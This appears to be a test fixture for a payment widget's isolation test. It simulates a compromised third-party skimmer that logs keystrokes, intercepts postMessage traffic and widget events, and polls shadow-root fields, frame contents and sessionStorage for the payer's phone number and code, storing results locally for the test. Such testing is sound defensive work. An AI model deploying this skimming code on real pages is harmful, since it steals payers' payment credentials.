/* global window, document, setInterval */
// A skimmer on the merchant's page, as a compromised third-party tag would run it (isolation.spec.ts):
// it tries every way this page's scripts have to the payer's phone number and code, and keeps whatever
// it finds in `window.skimmed` for the test to read. It runs before the widget's script.
(() => {
  const skimmed = (window.skimmed = []);
  const keep = (how, value) => {
    if (value !== undefined && value !== null && value !== '')
      skimmed.push(`${how}: ${typeof value === 'string' ? value : JSON.stringify(value)}`);
  };
  const attempt = (how, read) => {
    try {
      keep(how, read());
    } catch (error) {
      keep(`${how} refused`, String(error).slice(0, 60));
    }
  };

  // Messages to this window: the frame's relays, and anything else posted here.
  window.addEventListener('message', (event) => keep('message', event.data), true);
  // Messages posted on this window by anyone holding it (a frame's `parent.postMessage` is the
  // browser's own method on a cross-origin proxy: it never meets this patch).
  const ownPost = window.postMessage.bind(window);
  window.postMessage = (data, ...rest) => (keep('window.postMessage', data), ownPost(data, ...rest));

  // Keystrokes and input events, as they bubble (composed ones leave the widget's shadow root).
  for (const type of ['input', 'change', 'keydown'])
    document.addEventListener(
      type,
      (event) => {
        const field = event.composedPath()[0];
        keep(`${type} event`, field && 'value' in field ? field.value : event.key);
      },
      true,
    );

  // The widget's own events, with their details.
  for (const type of [
    'pay-ready',
    'pay-submit',
    'pay-otp-required',
    'pay-pending',
    'pay-success',
    'pay-failed',
    'pay-cancel',
    'pay-error',
  ])
    document.addEventListener(type, (event) => keep(type, event.detail), true);

  // Every so often, walk into the element: its shadow root's fields, and the frame's document.
  window.looks = 0;
  setInterval(() => {
    window.looks++;
    const checkout = document.querySelector('pay-checkout');
    const root = checkout?.shadowRoot;
    if (!root) return;
    for (const field of root.querySelectorAll('input, select, textarea')) keep('shadow field', field.value);
    const frame = root.querySelector('iframe');
    if (!frame) return;
    // Null for a frame on another origin; its window's properties throw.
    attempt('frame document', () => frame.contentDocument?.body?.innerHTML);
    attempt('frame window', () => {
      const inner = frame.contentWindow.document.querySelector('pay-checkout').shadowRoot;
      return [...inner.querySelectorAll('input')].map((field) => field.value).join(',');
    });
    attempt('frame storage', () => JSON.stringify(frame.contentWindow.sessionStorage));
  }, 50);
})();
